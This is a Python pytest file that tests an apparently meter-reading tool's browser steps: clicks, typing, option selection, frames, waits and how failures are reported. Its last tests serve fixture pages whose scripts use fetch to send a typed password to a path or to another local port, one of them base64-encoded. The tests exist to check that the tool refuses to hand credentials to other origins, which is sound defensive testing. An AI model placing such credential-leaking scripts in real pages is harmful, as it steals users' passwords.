"""Steps in the browser: what a person would do at the page, and what hindered it."""

import pytest
from tests.collect.browser.conftest import Read, target
from tests.collect.conftest import RawDevice, StartDevice, reply, serve, site

from wattledger.collect.errors import AttemptError
from wattledger.domain.outcome import Outcome

pytestmark = pytest.mark.browser

METER = "<b id=total>12543.5 kWh</b>"
TABS = """<button id=monthly-tab>Monthly</button><div id=panel></div><script>
  document.getElementById("monthly-tab").onclick = () => setTimeout(() => {
    document.getElementById("panel").innerHTML = "<b id=total>12543.5 k" + "Wh</b>"; }, 150);
  </script>"""


async def stopped(read: Read, device: RawDevice, *steps: dict[str, object]) -> str:
    with pytest.raises(AttemptError) as caught:
        await read(target(device, *steps))
    assert caught.value.outcome is Outcome.STEP_FAILED
    return caught.value.message


@pytest.mark.parametrize(
    "selector",
    ["#monthly-tab", "xpath://button[1]", "text:Monthly", "text:month"],
)
async def test_a_tab_is_clicked_and_timed(
    start_device: StartDevice, read: Read, selector: str
) -> None:
    device = await start_device(site({"/": TABS}))
    steps = [{"action": "click", "selector": selector}, {"action": "wait", "selector": "#total"}]
    fetched = await read(target(device, *steps))
    assert ">12543.5 kWh<" in fetched.documents[0].text
    labels = [step.label for step in fetched.steps]
    assert labels == ["open", f"step 1 (click '{selector}')", "step 2 (wait '#total')", "value"]
    assert all(step.milliseconds >= 0 for step in fetched.steps)


async def test_elements_in_frames_are_found(start_device: StartDevice, read: Read) -> None:
    frameset = "<frameset cols='1,2'><frame src=/menu><frame src=/start name=body></frameset>"
    menu = "<a href=/energy target=body>Energy</a>"
    pages = {"/": frameset, "/menu": menu, "/start": "<p>hi", "/energy": METER}
    device = await start_device(site(pages))
    fetched = await read(target(device, {"action": "click", "selector": "text:Energy"}))
    assert any("12543.5 kWh" in document.text for document in fetched.documents)


async def test_a_window_a_click_opens_takes_the_page_s_place(
    start_device: StartDevice, read: Read
) -> None:
    pages = {"/": "<a href=/energy target=_blank>Energy</a>", "/energy": METER}
    device = await start_device(site(pages))
    fetched = await read(target(device, {"action": "click", "selector": "a"}))
    assert [document.url for document in fetched.documents] == [f"{device.url}/energy"]


async def test_fields_are_typed_into_and_options_chosen(
    start_device: StartDevice, read: Read
) -> None:
    page = """<label>Name <input id=n></label><select id=s><option value=1>a<option value=2>b
      </select><input id=w><b id=total></b><script>s.onchange = () => {
      total.textContent = `${n.value} ${s.value} k` + "Wh"; };</script>"""
    device = await start_device(site({"/": page}))
    fetched = await read(
        target(
            device,
            {"action": "type", "selector": "text:Name", "text": "{username}"},
            {"action": "type", "selector": "#w", "text": "{password}"},
            {"action": "select", "selector": "#s", "value": "2"},
            username="admin",
            password="apc+Rack&7",
        )
    )
    assert ">admin 2 kWh<" in fetched.documents[0].text
    assert "apc" not in str(fetched.steps)
    assert fetched.login_sent


async def test_a_first_step_that_navigates_spares_the_address(
    start_device: StartDevice, read: Read
) -> None:
    device = await start_device(site({"/energy": METER}))
    await read(target(device, {"action": "navigate", "url": "/energy"}))
    assert device.paths == ["GET /energy"]


async def test_a_time_is_waited(start_device: StartDevice, read: Read) -> None:
    device = await start_device(site({"/": METER}))
    fetched = await read(target(device, {"action": "wait", "milliseconds": 300}))
    assert fetched.steps[1].label == "step 1 (wait 300 ms)"
    assert 300 <= fetched.steps[1].milliseconds < 2000


async def test_a_missing_element_is_named_with_its_step(
    start_device: StartDevice, read: Read
) -> None:
    device = await start_device(site({"/": "<p>x"}))
    message = await stopped(
        read,
        device,
        {"action": "wait", "milliseconds": 1},
        {"action": "click", "selector": "#monthly-tab"},
    )
    assert message.startswith("step 2 (click '#monthly-tab'): no such element within 1 s on /")


@pytest.mark.parametrize(
    ("page", "step", "reason"),
    [
        ("<button id=b style='display:none'>x", {"action": "click"}, "did not become visible"),
        ("<button id=b disabled>x", {"action": "click"}, "stayed disabled"),
        ("<button id=b>x</button><div style='position:fixed;inset:0'></div>",
         {"action": "click"}, "something covers the element"),
        ("<p id=b>x", {"action": "type", "text": "sec-ret-9"}, "cannot be used so"),
        ("<select id=b><option>x", {"action": "select", "value": "9"}, "no option '9'"),
    ],
)  # fmt: skip
async def test_what_hinders_a_step_is_told(
    start_device: StartDevice, read: Read, page: str, step: dict[str, object], reason: str
) -> None:
    device = await start_device(site({"/": page}))
    message = await stopped(read, device, {**step, "selector": "#b"})
    assert reason in message
    assert "sec-ret-9" not in message


@pytest.mark.parametrize(
    ("selector", "reason"),
    [
        ("##x[", "no valid selector"),
        ("xpath://*[", "no valid selector"),
        ("json:$.x", "JSON has no elements"),
    ],
)
async def test_a_selector_that_is_none_is_told(
    start_device: StartDevice, read: Read, selector: str, reason: str
) -> None:
    device = await start_device(site({"/": "<p>x"}))
    message = await stopped(read, device, {"action": "click", "selector": selector})
    assert message.startswith("step 1 ")
    assert reason in message


async def test_a_step_to_a_page_that_is_not_there_is_told(
    start_device: StartDevice, read: Read
) -> None:
    device = await start_device(site({"/": reply("<p>x")}))
    with pytest.raises(AttemptError) as caught:
        await read(target(device, {"action": "navigate", "url": "/old.htm"}))
    assert caught.value.message.startswith("step 1 (navigate /old.htm): ")
    assert "HTTP 404" in caught.value.message
    assert caught.value.outcome is Outcome.HTTP_STATUS


LOGIN = "<input type=password name=p><b id=shown></b>"
TYPED = {"action": "type", "selector": "[name=p]", "text": "{password}"}
SECRET = "apc+Rack&7"


@pytest.mark.parametrize("way", ["link", "redirect", "frame"])
async def test_a_password_is_not_typed_where_another_port_leads(
    start_device: StartDevice, read: Read, way: str
) -> None:
    spying = f"{LOGIN}<script>setInterval(() => p.value && fetch('/' + p.value), 20)</script>"
    other = await start_device(serve(lambda _: spying.replace("name=p", "name=p id=p")))
    ways: dict[str, str | bytes] = {
        "link": f"<a id=go href='{other.url}/in'>Energy</a>",
        "redirect": reply("", "302 Found", Location=f"{other.url}/in"),
        "frame": f"<iframe src='{other.url}/in'></iframe>",
    }
    device = await start_device(site({"/": ways[way]}))
    steps = [{"action": "click", "selector": "#go"}, TYPED] if way == "link" else [TYPED]
    with pytest.raises(AttemptError) as caught:
        await read(target(device, *steps, password=SECRET))
    assert caught.value.outcome is Outcome.REFUSED
    assert f"not sent to {other.url}" in caught.value.message
    assert not caught.value.fetched.login_sent
    assert not any("apc" in path for path in other.paths)


@pytest.mark.parametrize("way", ["form", "script"])
async def test_a_password_that_was_typed_goes_to_no_other_port(
    start_device: StartDevice, read: Read, way: str
) -> None:
    other = await start_device(site({}))
    ways = {
        "form": f"<form action={other.url}/in>{LOGIN}<button id=go>In</button></form>",
        "script": f"""{LOGIN}<button id=go>In</button><script>go.onclick = () => fetch(
          "{other.url}/in?x=" + btoa(document.querySelector("input").value))</script>""",
    }
    device = await start_device(site({"/": ways[way]}))
    with pytest.raises(AttemptError) as caught:
        await read(target(device, TYPED, {"action": "click", "selector": "#go"}, password=SECRET))
    assert caught.value.outcome is Outcome.REFUSED
    assert f"not sent to {other.url}" in caught.value.message
    assert other.paths == []


async def test_a_password_is_typed_where_a_step_navigates_to_also_into_a_page_of_a_script(
    start_device: StartDevice, read: Read
) -> None:
    inner = "<input name=p><script>p = document.querySelector('input');p.oninput = () => {"
    inner += "parent.document.getElementById('total').textContent = p.value.length + ' kWh'}"
    page = "<b id=total></b><iframe id=f></iframe><script>f.srcdoc = `%s<\\/script>`</script>"
    other = await start_device(site({"/in": page % inner}))
    device = await start_device(site({"/": "<p>Elsewhere"}))
    navigate = {"action": "navigate", "url": f"{other.url}/in"}
    fetched = await read(target(device, navigate, TYPED, password=SECRET))
    assert f"{len(SECRET)} kWh" in fetched.documents[0].text
    assert fetched.login_sent
